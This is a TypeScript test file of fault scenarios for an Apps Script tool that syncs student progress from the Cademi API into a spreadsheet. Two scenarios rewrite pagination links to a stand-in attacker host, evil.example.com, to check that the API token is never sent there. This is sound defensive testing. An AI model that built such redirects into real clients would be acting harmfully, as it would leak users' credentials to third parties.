// Fault scenarios: the Apps Script bundle (build/Code.js over the fakes) driven through one week
// (2 cohorts of a 300-student school, Monday 2026-09-14 06:00 São Paulo) while the API, the quota,
// the executor or the lock misbehave. Each trial is compared with an undisturbed run of the same week
// on the same API generation: every scenario is built once per generation (`scenariosFor('v1' | 'v3')`),
// with that generation's URL, key and `Turmas` ids, its reference week, and faults that hit its requests.
//
// A trial's `finalState` is the sequence of what `Execuções` said at the end of each phase, e.g.
// 'Falhou: token recusado → Concluída' (fault on, then fixed and clicked again). A scenario names
// the sequence it expects; a trial survives when it ends exactly there and the log says why.

import type { HttpRequest, HttpResponse } from '../../src/core/http';
import { SHEET } from '../../src/core/sheets';
import type { Cell } from '../../src/core/workbook/workbook';
import { SpreadsheetWorkbook } from '../../src/gas/spreadsheet-workbook';
import { createSchool, createSimulator, type School } from '../../src/simulator';
import { API_SETUPS, configure, type GasSchool, gasSchool } from '../support/apps-script-school';
import { mondayRun } from '../support/school-workbook';
import { type ApiGeneration, type FaultGeneration, GENERATIONS, keyOf as keySent, withKey } from './generations';

export const WEEK = '2026-09-14';
export const MONDAY = mondayRun(WEEK);
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const COHORTS = 2;
/** The key the coordinator saves after Cademi revoked the old one (a v3 key looks like one). */
const NEW_TOKEN: Readonly<Record<ApiGeneration, string>> = { v1: 'novo-token-depois-da-revogacao', v3: 'ck_test_nova_chave_depois_da_revogacao' };

/** One trial of a fault: one fresh spreadsheet, driven until the scenario's story is over. */
export interface Trial {
  fault: string;
  api: ApiGeneration;
  /** Executions the trial took (clicks + ticks that fired). */
  runs: number;
  /** What `Execuções` said at the end of each phase, joined with ' → '. */
  finalState: string;
  /** The log (or the alert) names the cause, as the scenario expects. */
  logSaysWhy: boolean;
  /** Histórico never held a partial week: after each phase the week has zero rows or all of them. */
  historyComplete: boolean;
  /** Reference (Semana, Aluno ID, Produto ID) keys missing at the worst phase end that wrote the week (or at the end). */
  rowsLost: number;
  /** Keys appearing more than once in Histórico (worst phase end). */
  duplicates: number;
  /** Requests that carried the token to another origin, or any request to another origin. */
  tokenLeaks: number;
  /** Rows present in both whose values (except `Coletado em`) differ from the reference (informative: late fetches see later progress). */
  valuesChanged: number;
  /** Free text for the report (what happened when it did not survive). */
  note?: string;
}

export interface Scenario {
  fault: string;
  /** The API generation the scenario's school syncs through. */
  api: ApiGeneration;
  /** The finalState a surviving trial ends in. */
  expected: string;
  /** Why this fault cannot happen on this generation: the scenario is listed, not run. */
  notApplicable?: string;
  run(): Trial[] | Promise<Trial[]>;
}

/** A fault that has no meaning on `api`: named in the table with the reason, never silently dropped. */
function notApplicable(fault: string, api: ApiGeneration, reason: string): Scenario {
  return { fault, api, expected: 'não se aplica', notApplicable: reason, run: () => [] };
}

// ---------------------------------------------------------------------------------------------
// The shared school and the reference week

let sharedSchool: School | null = null;
function school(): School {
  sharedSchool ??= createSchool({ studentCount: 300 });
  return sharedSchool;
}

interface Reference {
  /** key → JSON of the row without `Coletado em`. */
  rows: Map<string, string>;
  /** The `Semana` cell of this week, as Histórico and Execuções store it (JSON). */
  weekCell: string;
  /** Kill-switch calls from the click to the end of the undisturbed run. */
  totalCalls: number;
  /** Requests that reached the simulator, and the progress calls among them (v3: one per student, v1: per pair). */
  requests: number;
  progressRequests: number;
}

const references = new Map<ApiGeneration, Reference>();

const COLLECTED_AT = 13;
const keyOf = (row: Cell[]) => JSON.stringify([cellText(row[0]), row[2], row[5]]);
const valuesOf = (row: Cell[]) => JSON.stringify(row.slice(0, COLLECTED_AT).map(cellText));

function cellText(cell: unknown): unknown {
  if (cell instanceof Object && typeof (cell as Date).getTime === 'function') return `@${(cell as Date).getTime()}`;
  return cell;
}

function readSheet(gas: GasSchool, name: string): Cell[][] {
  return gas.env.runtime.quietly(() => new SpreadsheetWorkbook(gas.env.spreadsheet.gas()).readSheet(name) ?? []);
}

/** The undisturbed week on `api`, run once per generation. */
export function referenceWeek(api: ApiGeneration): Reference {
  const known = references.get(api);
  if (known) return known;
  const gen = GENERATIONS[api];
  let progressRequests = 0;
  const gas = newEnv(api, {
    fault: (request) => {
      if (gen.isProgress(request)) progressRequests++;
      return undefined;
    },
  });
  const before = gas.env.killSwitch.count;
  click(gas);
  ticks(gas, 3 * HOUR);
  const rows = readSheet(gas, SHEET.history).slice(1);
  const log = readSheet(gas, SHEET.runs).slice(1);
  if (log.length !== 1 || log[0][4] !== 'Concluída' || rows.length === 0) throw new Error(`reference run on ${api} did not complete: ${JSON.stringify(log)}`);
  const idPrefix = api === 'v3' ? /^usr_/ : /^\d+$/;
  if (!rows.every((row) => idPrefix.test(String(row[2])))) throw new Error(`reference run on ${api} keyed students with another generation's ids`);
  const reference: Reference = {
    rows: new Map(rows.map((row) => [keyOf(row), valuesOf(row)])),
    weekCell: JSON.stringify(cellText(rows[0][0])),
    totalCalls: gas.env.killSwitch.count - before,
    requests: gas.requests(),
    progressRequests,
  };
  references.set(api, reference);
  return reference;
}

// ---------------------------------------------------------------------------------------------
// Environment and driving

type Fault = (request: HttpRequest, now: number) => HttpResponse | undefined;
type Transform = (request: HttpRequest, response: HttpResponse, now: number) => HttpResponse;

interface EnvOptions {
  /** The simulator's fault hook (a response instead of the real one; may throw = no answer). */
  fault?: Fault;
  /** Rewrites the real answer (a renamed field, a bad next_page_url). */
  transform?: Transform;
  pageSize?: number;
  urlFetchQuota?: number;
}

interface FaultEnv extends GasSchool {
  api: ApiGeneration;
  gen: FaultGeneration;
  /** Requests that reached the simulator (every attempt, faulted or not). */
  requests: () => number;
  executions: number;
  /** Executions that ended in an exception other than the executor's time limit (Apps Script's own log, not Execuções). */
  crashes: string[];
  /** Executions the kill switch ended. */
  kills: number;
}

/**
 * A configured spreadsheet syncing through `api`, whose UrlFetchApp talks to a simulator with this
 * scenario's faults. `pageSize` on v3, whose client always asks for 200 a page, is a server that
 * answers fewer: the listing request's `limit` is lowered on its way in (cursors do not carry it).
 */
function newEnv(api: ApiGeneration, options: EnvOptions): FaultEnv {
  const gas = gasSchool(MONDAY, { school: school(), api }) as FaultEnv;
  const gen = GENERATIONS[api];
  let requests = 0;
  const simulator = createSimulator({
    clock: gas.env.time,
    school: gas.school,
    token: API_SETUPS.v1.token,
    pageSize: options.pageSize,
    fault: (request, now) => {
      requests++;
      return options.fault?.(request, now);
    },
  });
  const served = (request: HttpRequest): HttpRequest =>
    api === 'v3' && options.pageSize !== undefined && gen.isTagPage(request)
      ? { ...request, url: request.url.replace(/([?&]limit=)\d+/, `$1${options.pageSize}`) }
      : request;
  gas.env.urlFetch.handler = (request) => {
    const response = simulator.handle(served(request));
    return options.transform ? options.transform(request, response, gas.env.time.now()) : response;
  };
  if (options.urlFetchQuota !== undefined) gas.env.urlFetch.dailyQuota = options.urlFetchQuota;
  gas.simulator = simulator;
  gas.gen = gen;
  gas.requests = () => requests;
  gas.executions = 0;
  gas.crashes = [];
  gas.kills = 0;
  configure(gas, { cohorts: COHORTS, api });
  return gas;
}

const KILLED = 'Exceeded maximum execution time';

function crashed(gas: FaultEnv, error: unknown): void {
  if (error === undefined) return;
  if (String(error).includes(KILLED)) {
    gas.kills++;
    return;
  }
  gas.crashes.push(String(error).split('\n')[0].slice(0, 160));
}

/** "Atualizar agora": an execution of its own; one that throws is recorded (Apps Script would show it), not rethrown. */
function click(gas: FaultEnv): void {
  gas.executions++;
  try {
    gas.env.execute(() => gas.fns.atualizarAgora(), { context: 'ui' });
  } catch (error) {
    crashed(gas, error);
  }
}

/** Fires the tick trigger for up to `forMs`, stopping early once no trigger is left (the run is over). */
function ticks(gas: FaultEnv, forMs: number, untilGone = true): void {
  const end = gas.env.time.now() + forMs;
  while (gas.env.time.now() < end) {
    if (untilGone && gas.env.triggers.timeTriggers().length === 0) return;
    const fired = gas.env.runTriggersUntil(Math.min(end, gas.env.time.now() + HOUR), gas.fns);
    gas.executions += fired.length;
    for (const run of fired) crashed(gas, run.error);
  }
}

/** Whether the week has been completed (per the document properties). */
function weekDone(gas: FaultEnv): boolean {
  return gas.env.properties.document.data.get('cademi.lastCompletedWeek') === WEEK;
}

// ---------------------------------------------------------------------------------------------
// Observing a trial

interface Phase {
  /** Execuções rows before the phase started. */
  logFrom: number;
  /** Label a failure gets when its message matches `why`. */
  label?: string;
  why?: RegExp;
}

class Observer {
  readonly states: string[] = [];
  private whyOk = true;
  private partial = false;
  private lost = 0;
  /** Reference keys that may rightly have no row (pairs the fault made Cademi refuse for good). */
  readonly excused = new Set<string>();
  private dups = 0;
  private changed = 0;
  notes: string[] = [];

  constructor(private readonly gas: FaultEnv) {}

  logLength(): number {
    return Math.max(0, readSheet(this.gas, SHEET.runs).length - 1);
  }

  /** Ends a phase: what the log says about the week since `phase.logFrom`, and the Histórico check. */
  endPhase(phase: Phase): void {
    const ref = referenceWeek(this.gas.api);
    const log = readSheet(this.gas, SHEET.runs).slice(1).slice(phase.logFrom);
    const ofWeek = log.filter((row) => JSON.stringify(cellText(row[3])) === ref.weekCell);
    const last = (ofWeek.length > 0 ? ofWeek : log).at(-1);
    let state: string;
    if (!last) {
      state = 'sem registro';
    } else if (last[4] === 'Falhou') {
      const message = String(last[12] ?? '');
      const matches = phase.why ? phase.why.test(message) : false;
      state = `Falhou: ${matches && phase.label ? phase.label : message.slice(0, 90)}`;
      if (phase.why && !matches) this.whyOk = false;
    } else {
      state = String(last[4]);
    }
    this.states.push(state);

    const history = readSheet(this.gas, SHEET.history).slice(1);
    const weekRows = history.filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
    const counts = new Map<string, number>();
    for (const row of weekRows) counts.set(keyOf(row), (counts.get(keyOf(row)) ?? 0) + 1);
    const missing = [...ref.rows.keys()].filter((key) => !counts.has(key) && !this.excused.has(key)).length;
    const extra = [...counts.keys()].filter((key) => !ref.rows.has(key)).length;
    this.dups = Math.max(this.dups, [...counts.values()].filter((n) => n > 1).length);
    if (weekRows.length > 0 && (missing > 0 || extra > 0)) {
      this.partial = true;
      this.notes.push(`Histórico com semana parcial (${missing} faltando, ${extra} a mais) após "${state}"`);
    }
    // A week written with rows missing lost them, even if a later run fixes it (finalLoss adds the end state).
    if (weekRows.length > 0) this.lost = Math.max(this.lost, missing);
    let changed = 0;
    for (const row of weekRows) {
      const expected = ref.rows.get(keyOf(row));
      if (expected !== undefined && expected !== valuesOf(row)) changed++;
    }
    this.changed = Math.max(this.changed, changed);
  }

  /** Extra "why" evidence (an alert, a retries column) that must hold for the trial. */
  requireWhy(ok: boolean, note: string): void {
    if (!ok) {
      this.whyOk = false;
      this.notes.push(note);
    }
  }

  /** The loss measured at the end of a trial whose week must be written (e.g. failed when it should not). */
  finalLoss(): void {
    const ref = referenceWeek(this.gas.api);
    const history = readSheet(this.gas, SHEET.history)
      .slice(1)
      .filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
    const keys = new Set(history.map(keyOf));
    this.lost = Math.max(this.lost, [...ref.rows.keys()].filter((key) => !keys.has(key) && !this.excused.has(key)).length);
  }

  trial(fault: string): Trial {
    const { api } = this.gas;
    const crashes = [...new Set(this.gas.crashes)];
    if (crashes.length > 0) {
      this.whyOk = false;
      this.notes.push(`${this.gas.crashes.length} execução(ões) lançaram exceção (fora de Execuções): ${crashes.slice(0, 2).join(' | ')}`);
    }
    const leaks = tokenLeaks(this.gas);
    if (leaks > 0) this.notes.push(`${leaks} pedido(s) a outra origem`);
    if (this.gas.env.spreadsheet.gas().getSheetByName(SHEET.staging) && !this.gas.env.properties.document.data.get('cademi.checkpoint')) {
      this.notes.push('staging sem checkpoint');
    }
    return {
      fault,
      api,
      runs: this.gas.executions,
      finalState: this.states.join(' → '),
      logSaysWhy: this.whyOk,
      historyComplete: !this.partial,
      rowsLost: this.lost,
      duplicates: this.dups,
      tokenLeaks: leaks,
      valuesChanged: this.changed,
      ...(this.notes.length > 0 ? { note: this.notes.join('; ') } : {}),
    };
  }
}

/** Requests sent to any origin but the API's (with or without the token: none should leave), from UrlFetchApp's log. */
function tokenLeaks(gas: FaultEnv): number {
  const origin = new URL(API_SETUPS[gas.api].url).origin;
  return gas.env.urlFetch.log.filter((fetch) => {
    try {
      return new URL(fetch.url).origin !== origin;
    } catch {
      return true;
    }
  }).length;
}

// ---------------------------------------------------------------------------------------------
// Fault helpers

/** Answers `make(n)` for requests number `from`…`from+length-1` of every `period` (counted at the simulator). */
function bursts(options: { first: number; period: number; length: number; max: number }, make: (index: number, now: number) => HttpResponse | 'throw'): Fault {
  let count = 0;
  let fired = 0;
  return (_request, now) => {
    const n = count++;
    if (n < options.first || fired >= options.max) return undefined;
    const inPeriod = (n - options.first) % options.period;
    if (inPeriod >= options.length) return undefined;
    fired++;
    const response = make(fired, now);
    if (response === 'throw') throw new Error('connect timed out');
    return response;
  };
}

/** Click, then ticks until the week is done or `forMs` passes. */
function runWeek(gas: FaultEnv, forMs = 6 * HOUR): void {
  click(gas);
  ticks(gas, forMs);
}

/** A "self-healing" fault: the run must complete in spite of it, and count its retries. */
function survivable(
  api: ApiGeneration,
  fault: string,
  make: (offset: number) => EnvOptions,
  offsets: number[],
  options: { retriesLogged?: boolean } = {},
): Scenario {
  return {
    fault,
    api,
    expected: 'Concluída',
    run: () =>
      offsets.map((offset) => {
        const gas = newEnv(api, make(offset));
        const observer = new Observer(gas);
        runWeek(gas, 2 * DAY);
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const row = readSheet(gas, SHEET.runs).slice(1).at(-1);
        if (options.retriesLogged !== false && row?.[4] === 'Concluída') {
          observer.requireWhy(Number(row[9]) > 0, `Repetições não registradas (${row[9]})`);
        }
        return observer.trial(fault);
      }),
  };
}

/**
 * A fault that must stop the run (auth, shape, pagination): phase 1 with the fault on must fail with
 * the log naming the cause and no partial week; phase 2, fault gone (and `fix` applied), a new click completes.
 */
function failThenRecover(
  api: ApiGeneration,
  fault: string,
  label: string,
  why: RegExp,
  make: (offset: number, state: { on: boolean }) => EnvOptions,
  offsets: number[],
  fix?: (gas: FaultEnv) => void,
  check?: (gas: FaultEnv, observer: Observer) => void,
): Scenario {
  return {
    fault,
    api,
    expected: `Falhou: ${label} → Concluída`,
    run: () =>
      offsets.map((offset) => {
        const state = { on: true };
        const gas = newEnv(api, make(offset, state));
        const observer = new Observer(gas);
        runWeek(gas, 6 * HOUR);
        observer.endPhase({ logFrom: 0, label, why });
        const logFrom = observer.logLength();
        state.on = false;
        fix?.(gas);
        gas.env.time.advance(30 * MINUTE);
        runWeek(gas, 6 * HOUR);
        observer.endPhase({ logFrom });
        observer.finalLoss();
        check?.(gas, observer);
        return observer.trial(fault);
      }),
  };
}

/** After `offset` requests, every answer is `make()` while `state.on`. */
function afterN(offset: number, state: { on: boolean }, make: (request: HttpRequest) => HttpResponse | undefined): Fault {
  let count = 0;
  return (request) => (count++ >= offset && state.on ? make(request) : undefined);
}

/** Reference keys a refused progress call rightly leaves without a row (v1: the pair; v3: every product of the student). */
function keysCostBy(api: ApiGeneration, target: { studentId: number | string; productId: number | null }): string[] {
  return [...referenceWeek(api).rows.keys()].filter((key) => {
    const [, studentId, productId] = JSON.parse(key) as [unknown, unknown, unknown];
    return studentId === target.studentId && (target.productId === null || productId === target.productId);
  });
}

/** Small pages, so each cohort has several. */
const PAGE = 20;

/** What the log must say when Cademi refuses the key: v1's messages say "token", v3's "chave da API". */
const KEY_REFUSED: Readonly<Record<ApiGeneration, RegExp>> = { v1: /token/i, v3: /chave da API/i };

/**
 * Where in each generation's week a fault starts, in requests at the simulator (or progress answers).
 * v1 as it always was. The v3 week makes about a third of the requests (97 against 281 in the
 * reference: one progress call per student, not per product), so its offsets sit at the same
 * fractions of its week; each must stay below the week's count or the fault never fires.
 */
const OFFSETS = {
  http403: { v1: [10, 140], v3: [10, 50] },
  revoked: { v1: [60, 250], v3: [20, 85] },
  storms429: { v1: [5, 120], v3: [5, 45] },
  bursts5xx: { v1: [3, 150], v3: [3, 55] },
  timeouts: { v1: [7, 160], v3: [7, 55] },
  malformed: { v1: [20, 130], v3: [10, 45] },
  renamedField: { v1: [0, 80], v3: [0, 28] },
  echoedErrors: { v1: [30, 200], v3: [10, 70] },
  /** UrlFetch calls a day (the quota), below the week's total so the run must span days. */
  quota: { v1: [100, 180], v3: [35, 62] },
} as const satisfies Record<string, Readonly<Record<ApiGeneration, readonly number[]>>>;

// ---------------------------------------------------------------------------------------------
// The catalogue, per generation

/** Every Apps Script fault scenario on `api`, in the table's order. */
export function scenariosFor(api: ApiGeneration): Scenario[] {
  const gen = GENERATIONS[api];
  const { token } = API_SETUPS[api];
  const offsets = (name: keyof typeof OFFSETS) => [...OFFSETS[name][api]];

  const http403 = failThenRecover(
    api,
    '403 no meio da execução',
    'token recusado',
    KEY_REFUSED[api],
    (offset, state) => ({ fault: afterN(offset, state, () => gen.error(403, 'Acesso negado: envie a chave da API no cabeçalho Authorization')) }),
    offsets('http403'),
  );

  // v1 answers a revoked token with 405; v3 with 401 `invalid_credential` (its 405 is only a wrong method).
  const revokedStatus = api === 'v1' ? 405 : 401;
  const revoked = failThenRecover(
    api,
    api === 'v1' ? '405 no meio (token revogado), depois corrigido' : '401 no meio (chave revogada), depois corrigida',
    'token recusado',
    KEY_REFUSED[api],
    (offset, state) => ({
      fault: afterN(offset, state, (request) => (keySent(request) === token ? gen.error(revokedStatus, 'Token inválido') : undefined)),
    }),
    offsets('revoked'),
    (gas) => {
      // The coordinator generates a new key and saves it; the API now accepts only the new one.
      const inner = gas.env.urlFetch.handler;
      gas.env.urlFetch.handler = (request) => {
        const key = keySent(request);
        if (key === token) return gen.error(revokedStatus, 'Token inválido');
        return inner(key === NEW_TOKEN[api] ? withKey(request, api, token) : request);
      };
      gas.env.properties.document.gas().setProperty('cademi.apiToken', NEW_TOKEN[api]);
    },
  );

  const storms429 = survivable(
    api,
    'tempestades de 429 (Retry-After)',
    (offset) => ({
      fault: bursts({ first: offset, period: 70, length: 10, max: 60 }, (index, now) =>
        gen.error(429, 'Limite de requisições excedido', { 'retry-after': index % 2 === 0 ? '3' : new Date(now + 5_000).toUTCString() }),
      ),
    }),
    offsets('storms429'),
  );

  const bursts5xx = survivable(
    api,
    'rajadas de 5xx',
    (offset) => ({
      fault: bursts({ first: offset, period: 80, length: 6, max: 30 }, (index) => gen.error([500, 502, 503, 504][index % 4], 'Erro interno')),
    }),
    offsets('bursts5xx'),
  );

  const timeouts = survivable(
    api,
    'timeouts (status 0 / sem resposta)',
    (offset) => ({
      fault: bursts({ first: offset, period: 90, length: 3, max: 15 }, (index) =>
        index % 2 === 0 ? ({ status: 0, headers: {}, body: '', transportError: 'Timeout' } as HttpResponse) : 'throw',
      ),
    }),
    offsets('timeouts'),
  );

  // A 2xx body that is not JSON (a truncated transfer) is retried like a transport error.
  const malformed = survivable(
    api,
    'JSON malformado (alguns corpos)',
    (offset) => ({
      fault: bursts({ first: offset, period: 97, length: 1, max: 3 }, () => ({
        status: 200,
        headers: { 'content-type': 'application/json; charset=utf-8' },
        body: gen.truncatedProgress,
      })),
    }),
    offsets('malformed'),
  );

  const renamedField = failThenRecover(
    api,
    'formato da resposta mudou (campo renomeado)',
    `formato inesperado em ${gen.progressLabel}`,
    new RegExp(gen.progressLabel.replace(/^GET /, '').replace(/[{}/]/g, '\\$&')),
    (offset, state) => {
      let count = 0;
      return {
        transform: (request, response) => {
          if (!gen.isProgress(request) || response.status !== 200 || count++ < offset || !state.on) return response;
          return { ...response, body: response.body.replace(gen.percentKey, gen.percentKey.replace(/^"/, '"percentual_')) };
        },
      };
    },
    offsets('renamedField'),
  );

  // Page 2 onwards points back at a page already read: v1's next_page_url at the first page, v3's
  // next_cursor at the cursor this very page was asked with (a cursor cannot name v3's first page).
  const repeatedCursor = failThenRecover(
    api,
    'cursor de paginação repetido',
    'paginação repetida',
    /pagina[çc][ãa]o|p[áa]gina repetida|repet/i,
    (_offset, state) => {
      const firstUrls = new Map<string, string>();
      return {
        pageSize: PAGE,
        transform: (request, response) => {
          if (!gen.isTagPage(request) || response.status !== 200 || !state.on) return response;
          const path = request.url.replace(/\?.*$/, '');
          if (!gen.hasCursor(request)) {
            firstUrls.set(path, request.url);
            return response;
          }
          const body = JSON.parse(response.body);
          if (gen.nextPointer(body) !== null) gen.setNextPointer(body, api === 'v1' ? (firstUrls.get(path) ?? request.url) : gen.pagePointerOf(request));
          return { ...response, body: JSON.stringify(body) };
        },
      };
    },
    [0],
  );

  const otherHostName = 'next_page_url em outro host';
  const otherHost =
    api === 'v1'
      ? failThenRecover(
          api,
          otherHostName,
          'paginação aponta para outro endereço',
          /outro endere|other host|evil\.example/i,
          (onlyFirstCohort, state) => ({
            pageSize: PAGE,
            transform: (request, response) => {
              if (!gen.isTagPage(request) || response.status !== 200 || !state.on) return response;
              if (onlyFirstCohort && !gen.isTagPageOf(request, school().cohorts[0].tagId)) return response;
              const body = JSON.parse(response.body);
              const next = gen.nextPointer(body);
              if (next !== null) gen.setNextPointer(body, next.replace(new URL(API_SETUPS.v1.url).origin, 'https://evil.example.com'));
              return { ...response, body: JSON.stringify(body) };
            },
          }),
          [0, 1], // both cohorts redirected; only the first
          undefined,
          (gas, observer) => observer.requireWhy(tokenLeaks(gas) === 0, 'token enviado a outro host'),
        )
      : notApplicable(
          otherHostName,
          api,
          'a API v3 não devolve URL de página, só um cursor opaco (page.next_cursor), e o cliente monta a próxima página no próprio endereço da API; o equivalente v3 é "cursor com URL de outro host"',
        );

  // v3's form of a page pointer naming another host: the cursor itself is such a URL. It goes back to
  // the API's own origin as an encoded `cursor=`, which Cademi refuses (422): the run stops, nothing sent away.
  const foreignCursor = failThenRecover(
    api,
    'cursor com URL de outro host',
    'cursor recusado pela Cademi',
    /GET \/users .*HTTP 422/,
    (onlyFirstCohort, state) => ({
      pageSize: PAGE,
      transform: (request, response) => {
        if (!gen.isTagPage(request) || response.status !== 200 || !state.on) return response;
        if (onlyFirstCohort && !gen.isTagPageOf(request, school().cohorts[0].tagId)) return response;
        const body = JSON.parse(response.body);
        const next = gen.nextPointer(body);
        if (next !== null) gen.setNextPointer(body, `https://evil.example.com/api/v3/users?cursor=${next}`);
        return { ...response, body: JSON.stringify(body) };
      },
    }),
    [0, 1],
    undefined,
    (gas, observer) => observer.requireWhy(tokenLeaks(gas) === 0, 'token enviado a outro host'),
  );

  const killSweep: Scenario = {
    fault: 'execução morta em cada ponto',
    api,
    expected: 'Concluída',
    run: () => {
      const total = referenceWeek(api).totalCalls;
      const points = [0, 1, 2, 5, 12, 30];
      const n = 12;
      for (let i = 1; i <= n; i++) points.push(Math.floor((i * (total - 1)) / n));
      return points.map((killAfter) => {
        const gas = newEnv(api, {});
        const observer = new Observer(gas);
        gas.env.killSwitch.killAfter(killAfter);
        click(gas);
        // The click died before its request stuck: the coordinator clicks again.
        if (gas.env.triggers.timeTriggers().length === 0 && !weekDone(gas)) click(gas);
        ticks(gas, 3 * HOUR);
        if (!weekDone(gas)) {
          click(gas);
          ticks(gas, 3 * HOUR);
        }
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const concluded = readSheet(gas, SHEET.runs)
          .slice(1)
          .filter((row) => row[4] === 'Concluída').length;
        observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída" em Execuções (kill após ${killAfter})`);
        // Every kill point really killed an execution: the sweep is not vacuous.
        observer.requireWhy(gas.kills > 0, `nenhuma execução morta (kill após ${killAfter})`);
        const trial = observer.trial('execução morta em cada ponto');
        return { ...trial, note: [trial.note, `kill após ${killAfter} chamadas`].filter(Boolean).join('; ') };
      });
    },
  };

  const concurrent: Scenario = {
    fault: 'duas execuções ao mesmo tempo (lock)',
    api,
    expected: 'Concluída',
    run: () => {
      const trials: Trial[] = [];
      // (a) A click while another execution holds the document lock: it says so, fetches nothing, and the tick finishes the run.
      {
        const gas = newEnv(api, {});
        const observer = new Observer(gas);
        gas.env.lock.holdExternally('document', 15 * MINUTE);
        click(gas);
        const alert = gas.env.ui.shown.filter((shown) => shown.kind === 'alert').at(-1);
        observer.requireWhy(
          /já está em andamento/.test(String(alert?.prompt)) && gas.env.urlFetch.log.length === 0,
          `clique com o lock ocupado: ${alert?.prompt ?? 'sem alerta'}`,
        );
        ticks(gas, 3 * HOUR);
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const concluded = readSheet(gas, SHEET.runs)
          .slice(1)
          .filter((row) => row[4] === 'Concluída').length;
        observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída"`);
        trials.push(observer.trial('duas execuções ao mesmo tempo (lock)'));
      }
      // (b) Scheduled ticks while the lock is held (the weekly run is due): they wait, then one run completes.
      {
        const gas = newEnv(api, {});
        const observer = new Observer(gas);
        gas.env.properties.document.gas().setProperty('cademi.lastCompletedWeek', '2026-09-07');
        gas.env.execute(() => gas.fns.ativarAtualizacaoAutomatica(), { context: 'ui' });
        gas.executions++;
        gas.env.lock.holdExternally('document', 35 * MINUTE);
        ticks(gas, 30 * MINUTE);
        observer.requireWhy(gas.env.urlFetch.log.length === 0, 'um tick buscou dados com o lock ocupado');
        // And a click racing the tick that now runs: whichever gets the lock does the work once.
        gas.env.lock.holdExternally('document', 2 * MINUTE);
        click(gas);
        ticks(gas, 3 * HOUR);
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const concluded = readSheet(gas, SHEET.runs)
          .slice(1)
          .filter((row) => row[4] === 'Concluída').length;
        observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída"`);
        trials.push(observer.trial('duas execuções ao mesmo tempo (lock)'));
      }
      return trials;
    },
  };

  const quota: Scenario = {
    fault: 'cota diária de UrlFetch esgotada',
    api,
    expected: 'Concluída',
    run: () =>
      offsets('quota').map((perDay) => {
        const gas = newEnv(api, { urlFetchQuota: perDay });
        const observer = new Observer(gas);
        click(gas);
        for (let day = 0; day < 5 && !weekDone(gas); day++) ticks(gas, DAY);
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const said = readSheet(gas, SHEET.runs)
          .slice(1)
          .some((row) => /cota/i.test(String(row[12])));
        observer.requireWhy(said, 'Execuções não menciona a cota');
        const days = Math.ceil((gas.env.time.now() - MONDAY) / DAY);
        const trial = observer.trial('cota diária de UrlFetch esgotada');
        return { ...trial, note: [trial.note, `cota ${perDay}/dia, ${days} dia(s) virtuais`].filter(Boolean).join('; ') };
      }),
  };

  // A week that cannot finish within its week fails, naming the week, and writes nothing of it.
  const deadline: Scenario = {
    fault: 'prazo da semana esgotado',
    api,
    expected: 'Falhou: prazo da semana',
    run: () => {
      // The first slice pauses (a long Retry-After), then the ticks cannot get the lock for 8 days.
      let throttled = false;
      const gas = newEnv(api, {
        fault: (request) => {
          if (throttled || !gen.isProgress(request)) return undefined;
          throttled = true;
          return gen.error(429, 'Limite de requisições excedido', { 'retry-after': '600' });
        },
      });
      const observer = new Observer(gas);
      click(gas);
      const paused = gas.env.properties.document.data.get('cademi.checkpoint') !== undefined;
      observer.requireWhy(paused, 'o primeiro slice não pausou (cenário não armado)');
      gas.env.lock.holdExternally('document', 8 * DAY);
      ticks(gas, 8 * DAY + 6 * HOUR);
      observer.endPhase({ logFrom: 0, label: 'prazo da semana', why: /2026-09-14|14\/09\/2026|14\/09/ });
      return [observer.trial('prazo da semana esgotado')];
    },
  };

  // ---- Issue 11: bad days that must never cost a week

  /**
   * A week collected cleanly, then re-run while the API misbehaves, then re-run again once it is well.
   * The re-run must never replace rows the week already had: `rowsLost` is measured at every phase end.
   */
  function rerunAfterComplete(
    fault: string,
    expectedRerun: string,
    why: RegExp | undefined,
    make: (state: { on: boolean }) => EnvOptions,
    check?: (gas: FaultEnv, observer: Observer) => void,
  ): Scenario {
    return {
      fault,
      api,
      expected: `Concluída → ${expectedRerun} → Concluída`,
      run: () => {
        const state = { on: false };
        const gas = newEnv(api, make(state));
        const observer = new Observer(gas);
        runWeek(gas, 6 * HOUR);
        observer.endPhase({ logFrom: 0 });
        let logFrom = observer.logLength();
        state.on = true;
        gas.env.time.advance(30 * MINUTE);
        runWeek(gas, 6 * HOUR);
        const label = expectedRerun.startsWith('Falhou: ') ? expectedRerun.slice('Falhou: '.length) : undefined;
        observer.endPhase({ logFrom, label, why });
        check?.(gas, observer);
        logFrom = observer.logLength();
        state.on = false;
        gas.env.time.advance(30 * MINUTE);
        runWeek(gas, 6 * HOUR);
        observer.endPhase({ logFrom });
        observer.finalLoss();
        return [observer.trial(fault)];
      },
    };
  }

  // Class 1: a re-run whose every answer is a 404 without Cademi's envelope fails, naming the URL, and keeps the week.
  const all404 = rerunAfterComplete(
    `404 sem envelope em tudo no re-run (URL sem /api/${api})`,
    'Falhou: endereço da API não encontrado',
    /escola\.cademi\.com\.br/,
    (state) => ({ fault: () => (state.on ? HTML_404 : undefined) }),
  );

  // Class 1: one cohort's tag answers Cademi's own 404 on a re-run: the other cohort is refreshed, this one keeps its rows.
  const one404 = rerunAfterComplete(
    '404 na tag de uma turma no re-run',
    'Concluída',
    undefined,
    (state) => ({
      fault: (request) => (state.on && gen.isTagPageOf(request, school().cohorts[0].tagId) ? gen.error(404, 'Tag não encontrada') : undefined),
    }),
    (gas, observer) => {
      const row = readSheet(gas, SHEET.runs).slice(1).at(-1);
      observer.requireWhy(/tag/i.test(String(row?.[12] ?? '')), `Execuções não diz qual tag falhou: ${String(row?.[12] ?? '').slice(0, 120)}`);
    },
  );

  // Class 1: a fresh week in which every tag lists nobody is no success: it fails and writes nothing.
  const noStudents = failThenRecover(
    api,
    'semana nova sem nenhum aluno listado',
    'nenhum aluno coletado',
    /nenhum aluno|nenhuma turma/i,
    (_offset, state) => ({
      transform: (request, response) => {
        if (!gen.isTagPage(request) || response.status !== 200 || !state.on) return response;
